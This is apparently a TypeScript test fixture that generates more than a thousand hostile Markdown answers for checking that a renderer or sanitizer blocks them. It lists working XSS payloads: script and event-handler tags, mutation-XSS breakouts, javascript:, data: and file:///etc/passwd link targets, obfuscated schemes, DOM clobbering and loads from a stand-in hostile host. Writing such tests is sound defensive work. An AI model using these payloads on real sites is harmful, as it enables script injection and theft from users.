/** An answer that tries to run a script, load something foreign or break the layout. */
export type HostileAnswer = { name: string; markdown: string };

/** Where a request or a link of a payload would go. */
export const hostileOrigin = 'https://hostile.example';
/** What a script of a payload would set on `window`. */
export const hostileMark = '__hostile';

const run = `window.${hostileMark}=1`;
const away = `${hostileOrigin}/x`;

const vectors: Record<string, string> = {
  script: `<script>${run}</script>`,
  'script in capitals': `<SCRIPT>${run}</SCRIPT>`,
  'script from afar': `<script src=${away}.js></script>`,
  'script with a slash': `<script/x>${run}</script>`,
  'script within script': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'script as a module': `<script type="module">import "${away}.js"</script>`,
  'script left open': `<script>${run}`,
  'image with onerror': `<img src=x onerror="${run}">`,
  'image with slashes': `<img/src=x/onerror=${run}>`,
  'image with a line end': `<img\nsrc=x\nonerror=${run}\n>`,
  'image from afar': `<img src="${away}.png">`,
  'image with srcset': `<img srcset="${away}.png 2x" alt="">`,
  'picture source': `<picture><source srcset="${away}.webp"><img></picture>`,
  'svg with onload': `<svg onload="${run}"></svg>`,
  'svg with script': `<svg><script>${run}</script></svg>`,
  'svg that animates': `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=9>x</text></a></svg>`,
  'svg use': `<svg><use href="${away}.svg#a"/></svg>`,
  'math with a link': `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  'style within math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  'noscript that closes': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'template that closes': `<template><p title="</template><img src=x onerror=${run}>"></template>`,
  'comment that closes': `<!--><img src=x onerror=${run}>-->`,
  'comment with a bang': `<!--!><img src=x onerror=${run}>--!>`,
  cdata: `<![CDATA[><img src=x onerror=${run}>]]>`,
  iframe: `<iframe src="${away}"></iframe>`,
  'iframe with srcdoc': `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  object: `<object data="${away}.swf"></object>`,
  embed: `<embed src="${away}.swf">`,
  video: `<video autoplay src="${away}.mp4" poster="${away}.png" onloadstart=${run}></video>`,
  audio: `<audio src="${away}.mp3" autoplay oncanplay=${run}></audio>`,
  style: `<style>@import "${away}.css"; body{display:none}</style>`,
  'style attribute': `<p style="position:fixed;inset:0;background:url(${away}.png)">over all</p>`,
  'link element': `<link rel="stylesheet" href="${away}.css">`,
  meta: `<meta http-equiv="refresh" content="0;url=${away}">`,
  base: `<base href="${hostileOrigin}/">`,
  form: `<form action="${away}"><input name=p autofocus onfocus=${run}><button>Send</button></form>`,
  'form attribute': `<button formaction="javascript:${run}">x</button>`,
  details: `<details open ontoggle=${run}>x</details>`,
  marquee: `<marquee onstart=${run} loop=99>x</marquee>`,
  'body with onload': `<body onload=${run} background="${away}.png">`,
  'id that clobbers': `<a id=document name=cookie>x</a><form id=location></form>`,
  'class of the app': `<div class="fixed inset-0" data-testid="x" contenteditable>x</div>`,
  'link by script': `<a href="javascript:${run}">x</a>`,
  'link by script, hidden': `<a href="java&#x09;script:${run}">x</a>`,
  'link by data': `<a href="data:text/html,<script>${run}</script>">x</a>`,
  'link in a new window': `<a href="${away}" target=_blank ping="${away}" onclick=${run}>x</a>`,
  'closing tags': '</p></div></main></body></html><h1>gone</h1>',
  'open tags': '<div><table><tr><td><ul><li><b><i>never closed',
  'null bytes': `<scr\u0001ipt>${run}</scr\u0001ipt><img src=x on\u0001error=${run}>`,
  'wide letters': `＜script＞${run}＜/script＞<ſcript>${run}</ſcript>`,
};

/** Targets of links and images in Markdown itself. */
const targets: Record<string, string> = {
  script: `javascript:${run}`,
  'script in mixed case': `JaVaScRiPt:${run}`,
  'script by entity': `&#106;avascript:${run}`,
  'script by entity name': `javascript&colon;${run}`,
  'script with a tab': `java&Tab;script:${run}`,
  'script with a line end': `java&NewLine;script:${run}`,
  'script by percent': `javascript%3A${run}`,
  'script after a control': `\u0001javascript:${run}`,
  vbscript: 'vbscript:msgbox(1)',
  data: `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19ob3N0aWxlPTE8L3NjcmlwdD4=`,
  'data image': 'data:image/svg+xml,<svg/onload=alert(1)>',
  file: 'file:///etc/passwd',
  blob: `blob:${hostileOrigin}/1`,
  'two slashes': '//hostile.example/x',
  'three slashes': '///hostile.example/x',
  backslashes: '/\\hostile.example/x',
  'backslashes in front': '\\\\hostile.example/x',
  'slash and tab': '/&Tab;/hostile.example/x',
  'own name in front': `https://localhost:3000@hostile.example/x`,
  'own name as a part': 'http://localhost:3000.hostile.example/x',
  'a foreign page': away,
  telephone: 'tel:+1900555',
  mail: 'mailto:a@hostile.example?body=x',
};

const contexts: Record<string, (payload: string) => string> = {
  alone: (payload) => payload,
  'in a sentence': (payload) => `Spray **less**. ${payload} Then wait.`,
  'in a heading': (payload) => `## Early ${payload} blight`,
  'in a list': (payload) => `- first\n- ${payload}\n  - ${payload}`,
  'in a numbered list': (payload) => `1. ${payload}\n2. next`,
  'in a quote': (payload) => `> ${payload}\n> more`,
  'in a table': (payload) =>
    `| a | b |\n|---|---|\n| ${payload.replaceAll('\n', ' ').replaceAll('|', '\\|')} | x |`,
  'in emphasis': (payload) => `*${payload}* and **${payload}**`,
  'in code': (payload) => `\`${payload}\``,
  'in a fence': (payload) => `\`\`\`html"onload=${run}\n${payload}\n\`\`\``,
  'after an open fence': (payload) => `\`\`\`\n${payload}`,
  'in a link text': (payload) => `[${payload}](/home)`,
  'in a link title': (payload) => `[x](/home "${payload.replaceAll('"', '&quot;')}")`,
  'in an image text': (payload) => `![${payload}](${away}.png)`,
  'in a definition': (payload) => `[x][y]\n\n[y]: ${away} "${payload.replaceAll('"', "'")}"`,
  'after a broken link': (payload) => `[x](${payload}`,
  'as entities': (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  'as entities twice': (payload) => payload.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  'escaped by backslash': (payload) => payload.replaceAll('<', '\\<'),
  'within open tags': (payload) => `<div>\n<p>\n\n${payload}\n\n</p>`,
  'between HTML and Markdown': (payload) => `<b>\n${payload}\n</b>\n\n**x**`,
};

const links: Record<string, (target: string) => string> = {
  link: (target) => `[tap here](${target})`,
  'link in brackets': (target) => `[tap here](<${target}>)`,
  'link by reference': (target) => `[tap here][r]\n\n[r]: ${target}`,
  image: (target) => `![crop](${target})`,
  'image in a link': (target) => `[![crop](${target})](${target})`,
  'link of itself': (target) => `<${target}>`,
  bare: (target) => `See ${target} for more.`,
};

/** Answers without any tag that would break a page by their shape. */
const shapes: HostileAnswer[] = [
  { name: 'a word without end', markdown: 'x'.repeat(20_000) },
  { name: 'quotes in quotes', markdown: `${'>'.repeat(2_000)} deep` },
  {
    name: 'lists in lists',
    markdown: Array.from({ length: 200 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  },
  {
    name: 'a table of a thousand columns',
    markdown: `${'|a'.repeat(1_000)}|\n${'|-'.repeat(1_000)}|\n${'|b'.repeat(1_000)}|`,
  },
  { name: 'marks that pile up', markdown: `a${'\u0300'.repeat(5_000)}` },
  { name: 'text that turns around', markdown: '\u202e\u2066reversed\u202d'.repeat(200) },
  { name: 'brackets', markdown: '['.repeat(10_000) },
  { name: 'stars', markdown: '*a **b '.repeat(3_000) },
  {
    name: 'headings of all sizes',
    markdown: Array.from({ length: 600 }, (_, index) => `${'#'.repeat((index % 6) + 1)} big`).join('\n'),
  },
  { name: 'line ends', markdown: `a${'\n'.repeat(20_000)}b` },
];

/** More than a thousand hostile answers, made of contexts and vectors; the same ones every time. */
export function listHostileAnswers(): HostileAnswer[] {
  const cross = (parts: Record<string, string>, wraps: Record<string, (part: string) => string>) =>
    Object.entries(parts).flatMap(([part, text]) =>
      Object.entries(wraps).map(([wrap, put]) => ({ name: `${part}, ${wrap}`, markdown: put(text) })),
    );
  return [...cross(vectors, contexts), ...cross(targets, links), ...shapes];
}
